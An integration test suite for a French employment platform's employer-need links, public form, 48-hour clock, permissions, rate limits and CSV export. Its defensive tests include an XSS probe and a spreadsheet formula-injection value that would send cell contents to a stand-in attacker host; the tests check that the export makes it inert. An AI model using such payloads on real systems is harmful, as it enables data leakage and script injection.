import { randomBytes, randomUUID } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { addDays, parisToday } from '@passerelle/coaching';
import { Clock } from '@passerelle/core';
import {
  as as asUser,
  createTestContext,
  seedOrganisation,
  startApi,
  type RunningApi,
  type TestContext,
  type TestOrganisation,
  type TestUser,
} from '@passerelle/testing';

const HOUR = 3_600_000;
const PER_LINK = 12;
const VALID_SIRET = '88812345600012';
const OTHER_VALID_SIRET = '44306184100047';

interface Need {
  id: string;
  employerId: string;
  employerName: string;
  viaPublicForm: boolean;
  jobTitle: string;
  receivedAt: string;
  dueAt: string;
  overdue: boolean;
  jobAnalysisId: string;
  qualifiedAt: string | null;
  offerId: string | null;
}

const aNeed = (overrides: Record<string, string> = {}) => ({
  jobTitle: 'Vendeur·se en boulangerie',
  place: '59000 Lille',
  hours: 'Du mardi au samedi, 6 h – 13 h',
  startOn: addDays(parisToday(), 10),
  contractType: 'CDI',
  whatMatters: 'Le sourire, la ponctualité ; le métier s’apprend sur place.',
  contactName: 'Claire Fournil',
  contactEmail: 'claire@boulangerie.example',
  ...overrides,
});

/** Wait out the end of a one-minute rate window, so a count does not restart halfway through. */
async function awayFromWindowEnd(): Promise<void> {
  const second = (Date.now() / 1000) % 60;
  if (second > 45) await new Promise((resolve) => setTimeout(resolve, (60.5 - second) * 1000));
}

/**
 * Employers post recruitment needs through a link, without an account: one employer's link given
 * by the mediator, or the structure's public form with a SIRET checked by its Luhn key. Each need
 * arrives as a draft job analysis with a 48-hour clock, which the mediator qualifies and publishes.
 * Every defence is tried: forged, expired and revoked links, floods, bad input, formulas, roles.
 */
describe('employer needs: links, the public form, the 48-hour clock and qualification', () => {
  let context: TestContext;
  let api: RunningApi;
  let org: TestOrganisation;
  let db: DataSource;
  let employerId: string;
  let employerPath: string;
  const as = (user: TestUser) => asUser(api, user);
  const staff = () => as(org.users.staffNord);
  const publicApi = () => request(api.url);
  const pathOf = (url: string) => new URL(url).pathname;
  const post = (path: string, form: object) => publicApi().post(path).type('form').send(form);
  const needs = async (user: TestUser = org.users.staffNord): Promise<Need[]> =>
    ((await as(user).get('/employers/needs').expect(200)).body as { items: Need[] }).items;
  const needCount = async (): Promise<number> =>
    Number((await db.query<Array<{ n: string }>>('SELECT count(*) AS n FROM employer_need'))[0].n);

  beforeAll(async () => {
    context = await createTestContext({
      referential: true,
      env: { CARD_RATE_LIMIT_PER_MINUTE: '1000', CARD_LINK_RATE_LIMIT_PER_MINUTE: String(PER_LINK) },
    });
    api = await startApi(context.config);
    org = await seedOrganisation(api);
    db = api.app.get(DataSource);
    const employer = await staff()
      .post('/employers', { name: 'Boulangerie du Beffroi', siret: '73282932000074', commune: { inseeCode: '59350' } })
      .expect(201);
    employerId = (employer.body as { id: string }).id;
    const link = await staff().post(`/employers/${employerId}/need-links`).expect(201);
    employerPath = pathOf((link.body as { url: string }).url);
  });

  afterEach(() => api.app.get(Clock).reset());

  afterAll(async () => {
    await api?.close();
    await context?.cleanup();
  });

  it('takes a need through the employer’s link as a draft job analysis with its 48-hour clock, and tells the mediator', async () => {
    const page = await publicApi().get(employerPath).expect(200);
    expect(page.headers['content-type']).toContain('text/html');
    expect(page.headers['cache-control']).toBe('no-store');
    expect(page.text).toContain('Pour Boulangerie du Beffroi');
    expect(page.text).not.toContain('<script');
    expect(page.text).not.toContain('name="siret"');

    const before = Date.now();
    const received = await post(employerPath, aNeed()).expect(201);
    expect(received.text).toContain('a bien été reçu');
    expect(received.text).toContain('sous 48 heures');

    const [need] = await needs();
    expect(need).toMatchObject({
      employerId,
      employerName: 'Boulangerie du Beffroi',
      viaPublicForm: false,
      jobTitle: 'Vendeur·se en boulangerie',
      overdue: false,
      qualifiedAt: null,
      offerId: null,
    });
    expect(Date.parse(need.receivedAt)).toBeGreaterThanOrEqual(before - 1000);
    expect(Date.parse(need.dueAt) - Date.parse(need.receivedAt)).toBe(48 * HOUR);
    const analyses: Array<{
      status: string;
      title: string;
      schedule: string;
      conditions: string;
      employer_id: string;
    }> = await db.query('SELECT status, title, schedule, conditions, employer_id FROM job_analysis WHERE id = $1', [
      need.jobAnalysisId,
    ]);
    expect(analyses).toEqual([
      {
        status: 'draft',
        title: 'Vendeur·se en boulangerie',
        schedule: 'Du mardi au samedi, 6 h – 13 h',
        conditions: expect.stringContaining('Le sourire, la ponctualité') as unknown,
        employer_id: employerId,
      },
    ]);
    const detail = await staff().get(`/employers/${employerId}`).expect(200);
    expect((detail.body as { analyses: Array<{ id: string; status: string }> }).analyses).toContainEqual(
      expect.objectContaining({ id: need.jobAnalysisId, status: 'draft' }),
    );
    const notified: Array<{ message: string }> = await db.query(
      `SELECT message FROM user_notification WHERE user_id = $1 AND kind = 'employer_need' AND subject_id = $2`,
      [org.users.staffNord.id, need.id],
    );
    expect(notified).toEqual([{ message: expect.stringContaining('Boulangerie du Beffroi') as unknown }]);
  });

  it('marks a need overdue once 48 hours have passed without a candidate', async () => {
    const [need] = await needs();
    // Received 49 hours ago (the API's clock also signs the session: it stays put).
    await db.query(`UPDATE employer_need SET received_at = received_at - interval '49 hours' WHERE id = $1`, [need.id]);
    const [late] = await needs();
    expect(late).toMatchObject({ id: need.id, overdue: true });
    expect(Date.parse(late.dueAt)).toBe(Date.parse(need.dueAt) - 49 * HOUR);
  });

  it('opens nothing for a forged, altered or malformed token', async () => {
    const token = employerPath.split('/').at(-1)!;
    const altered = `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`;
    const count = await needCount();
    for (const forged of [randomBytes(32).toString('base64url'), altered, 'abc', `${token}x`]) {
      const page = await publicApi().get(`/besoins/${forged}`).expect(404);
      expect(page.text).toContain('Lien introuvable');
      await post(`/besoins/${forged}`, aNeed()).expect(404);
    }
    expect(await needCount()).toBe(count);
  });

  it('refuses an expired link and records nothing through it', async () => {
    const link = await staff().post(`/employers/${employerId}/need-links`, { days: 1 }).expect(201);
    const path = pathOf((link.body as { url: string }).url);
    await publicApi().get(path).expect(200);
    api.app.get(Clock).set(new Date(Date.now() + 25 * HOUR));
    const count = await needCount();
    const gone = await publicApi().get(path).expect(410);
    expect(gone.text).toContain('Ce lien a expiré.');
    await post(path, aNeed()).expect(410);
    expect(await needCount()).toBe(count);
  });

  it('lets a mediator of the structure revoke a link, and no one outside it', async () => {
    const link = await staff().post(`/employers/${employerId}/need-links`).expect(201);
    const { id, url } = link.body as { id: string; url: string };
    const listed = await staff().get(`/employers/need-links?employerId=${employerId}`).expect(200);
    expect((listed.body as { items: Array<{ id: string }> }).items.map((item) => item.id)).toContain(id);
    // The coach of UT Lille manages Lille's employers, not the département's.
    await as(org.users.coachLille).delete(`/employers/need-links/${id}`).expect(404);
    await as(org.users.managerNord).delete(`/employers/need-links/${id}`).expect(403);
    await publicApi().get(pathOf(url)).expect(200);
    await staff().delete(`/employers/need-links/${id}`).expect(204);
    const gone = await publicApi().get(pathOf(url)).expect(410);
    expect(gone.text).toContain('désactivé');
    await post(pathOf(url), aNeed()).expect(410);
  });

  it('gives the form back with each problem next to its field (422), escaped, and records nothing', async () => {
    const count = await needCount();
    const refused = await post(employerPath, {
      jobTitle: '<script>alert(1)</script>',
      place: '',
      hours: 'Matin',
      startOn: addDays(parisToday(), -3),
      contractType: 'Bénévolat',
      contactName: 'Claire',
      contactEmail: 'pas-une-adresse',
    }).expect(422);
    expect(refused.text).toContain('role="alert"');
    expect(refused.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(refused.text).not.toContain('<script>alert(1)');
    for (const [field, message] of [
      ['place', 'Indiquez le lieu de travail.'],
      ['startOn', 'La date de début ne peut pas être passée.'],
      ['contractType', 'Choisissez un type de contrat dans la liste.'],
      ['contactEmail', 'Cette adresse e-mail n’est pas valable.'],
    ]) {
      expect(refused.text).toContain(`id="${field}-problem">${message}`);
      expect(refused.text).toMatch(new RegExp(`id="${field}" name="${field}"[^>]*aria-invalid="true"`));
    }
    expect(await needCount()).toBe(count);
  });

  it('answers 400 naming the field for input no form sends: too long, unknown field, a link of no days', async () => {
    const long = await post(employerPath, aNeed({ whatMatters: 'x'.repeat(3000) })).expect(400);
    expect(long.body).toMatchObject({ details: [{ field: 'whatMatters' }] });
    const unknown = await post(employerPath, { ...aNeed(), salary: '9999' }).expect(400);
    expect(unknown.body).toMatchObject({ details: [expect.objectContaining({ field: 'salary' })] });
    const days = await staff().post(`/employers/${employerId}/need-links`, { days: 0 }).expect(400);
    expect(days.body).toMatchObject({ details: [expect.objectContaining({ field: 'days' })] });
    await staff()
      .post(`/employers/${randomBytes(4).toString('hex')}/need-links`)
      .expect(400);
  });

  it('checks the SIRET on the structure’s public form by its Luhn key, registers a new employer once, and finds it again', async () => {
    const link = await staff().post('/employers/need-links').expect(201);
    const path = pathOf((link.body as { url: string }).url);
    const page = await publicApi().get(path).expect(200);
    expect(page.text).toContain('name="siret"');
    expect(page.text).toContain('Département du Nord');

    const count = await needCount();
    const badKey = await post(path, aNeed({ companyName: 'Garage Martin', siret: '888 123 456 00013' })).expect(422);
    expect(badKey.text).toContain('id="siret-problem">Ce numéro SIRET n’est pas valable');
    const short = await post(path, aNeed({ companyName: 'Garage Martin', siret: '1234' })).expect(422);
    expect(short.text).toContain('id="siret-problem">Le numéro SIRET compte 14 chiffres');
    const nowhere = await post(path, aNeed({ companyName: 'Garage Martin', siret: VALID_SIRET, place: 'Atlantide' }));
    expect(nowhere.status).toBe(422);
    expect(nowhere.text).toContain('id="place-problem"');
    expect(await needCount()).toBe(count);

    await post(
      path,
      aNeed({ companyName: 'Garage Martin', siret: '888 123 456 00012', jobTitle: 'Mécanicien·ne' }),
    ).expect(201);
    await post(path, aNeed({ companyName: 'Garage Martin SARL', siret: VALID_SIRET, jobTitle: 'Carrossier·e' })).expect(
      201,
    );
    // A SIRET already on file is that employer: the Beffroi's need lands on the Beffroi.
    await post(path, aNeed({ companyName: 'Le Beffroi', siret: '73282932000074', jobTitle: 'Tourier·e' })).expect(201);
    const employers: Array<{ id: string; name: string; commune_name: string; structure_id: string }> = await db.query(
      'SELECT id, name, commune_name, structure_id FROM employer WHERE siret = $1',
      [VALID_SIRET],
    );
    expect(employers).toEqual([
      expect.objectContaining({ name: 'Garage Martin', commune_name: 'Lille', structure_id: org.structures.nord }),
    ]);
    const listed = await needs();
    expect(
      listed
        .filter((need) => need.employerId === employers[0].id)
        .map((need) => need.jobTitle)
        .sort(),
    ).toEqual(['Carrossier·e', 'Mécanicien·ne']);
    expect(listed.find((need) => need.jobTitle === 'Tourier·e')).toMatchObject({ employerId, viaPublicForm: true });
    expect(await db.query('SELECT 1 FROM employer WHERE siret = $1', [OTHER_VALID_SIRET])).toEqual([]);
  });

  it('lets the mediator qualify a draft once, publishing it as an offer', async () => {
    await post(employerPath, aNeed({ jobTitle: 'Pâtissier·e' })).expect(201);
    const need = (await needs()).find((one) => one.jobTitle === 'Pâtissier·e')!;
    const qualification = {
      title: 'Pâtissier·e',
      romeCode: 'D1104',
      tasks: ['Préparer les pâtes', 'Cuire les viennoiseries'],
      schedule: 'Du mardi au samedi, 6 h – 13 h',
      tools: ['Four à sole'],
      initialRequirements: ['CAP pâtisserie'],
      realRequirements: ['Ponctualité'],
      negotiatedAway: ['CAP pâtisserie'],
      contractType: 'CDI',
      workingTime: 'full_time',
      analysedOn: parisToday(),
      publish: true,
    };
    const path = `/employers/${employerId}/job-analyses/${need.jobAnalysisId}/qualification`;
    await staff()
      .post(path, { ...qualification, romeCode: 'Z9999' })
      .expect(400);
    await as(org.users.coachLille).post(path, qualification).expect(404);
    const qualified = await staff().post(path, qualification).expect(201);
    const offerId = (qualified.body as { offerId: string }).offerId;
    expect(offerId).toEqual(expect.any(String));
    const [analysis] = await db.query<Array<{ status: string; offer_id: string; contract_type: string }>>(
      'SELECT status, offer_id, contract_type FROM job_analysis WHERE id = $1',
      [need.jobAnalysisId],
    );
    expect(analysis).toEqual({ status: 'qualified', offer_id: offerId, contract_type: 'CDI' });
    expect((await needs()).find((one) => one.id === need.id)).toMatchObject({
      offerId,
      qualifiedAt: expect.any(String) as unknown,
    });
    const offer = await staff().get(`/offers/${offerId}`).expect(200);
    expect((offer.body as { title: string }).title).toBe('Pâtissier·e');

    const again = await staff().post(path, qualification).expect(409);
    expect(again.body).toMatchObject({ code: 'job_analysis.qualified', details: [{ field: 'analysisId' }] });
    await staff()
      .post(`/employers/${employerId}/job-analyses/${randomUUID()}/qualification`, qualification)
      .expect(404);
  });

  it('exports the needs as CSV with every formula the employers typed made inert', async () => {
    await post(
      employerPath,
      aNeed({ jobTitle: '=HYPERLINK("https://evil.example/?"&A2,"Voir")', place: '+33 Lille' }),
    ).expect(201);
    const csv = await staff().get('/employers/needs/export.csv').expect(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.headers['content-disposition']).toContain('besoins-employeurs.csv');
    const lines = csv.text.replace(/^\uFEFF/, '').split('\n');
    expect(lines[0]).toContain('Reçu le;Échéance 48 h');
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2,""Voir"")"`);
    expect(csv.text).toContain(";'+33 Lille;");
    expect(csv.text).not.toMatch(/;=HYPERLINK/);
  });

  it('keeps the needs, links and qualification to those who manage employers', async () => {
    await as(org.users.managerNord).get('/employers/needs').expect(403);
    await as(org.users.managerNord).get('/employers/needs/export.csv').expect(403);
    await as(org.users.managerNord).post('/employers/need-links').expect(403);
    await as(org.users.managerBasRhin).post(`/employers/${employerId}/need-links`).expect(403);
    await publicApi().get('/employers/needs').expect(401);
    await publicApi().post(`/employers/${employerId}/need-links`).expect(401);
    // A coach of UT Lille sees Lille's needs only: none of the département's.
    expect(await needs(org.users.coachLille)).toEqual([]);
    await as(org.users.coachLille).post(`/employers/${employerId}/need-links`).expect(404);
  });

  it('limits the requests to one link from many addresses (429, a page in French), and records none of the refused', async () => {
    const link = await staff().post(`/employers/${employerId}/need-links`).expect(201);
    const path = pathOf((link.body as { url: string }).url);
    await awayFromWindowEnd();
    const count = await needCount();
    for (let i = 0; i < PER_LINK; i++)
      await publicApi()
        .post(path)
        .set('X-Forwarded-For', `198.51.100.${i + 1}`)
        .type('form')
        .send(aNeed({ jobTitle: `Flot ${i}` }))
        .expect(201);
    const refused = await publicApi()
      .post(path)
      .set('X-Forwarded-For', '198.51.100.99')
      .type('form')
      .send(aNeed({ jobTitle: 'Flot refusé' }))
      .expect(429);
    expect(refused.headers['retry-after']).toMatch(/^\d+$/);
    expect(refused.text).toContain('Trop de demandes');
    await publicApi().get(path).set('X-Forwarded-For', '198.51.100.100').expect(429);
    expect(await needCount()).toBe(count + PER_LINK);
  });
});
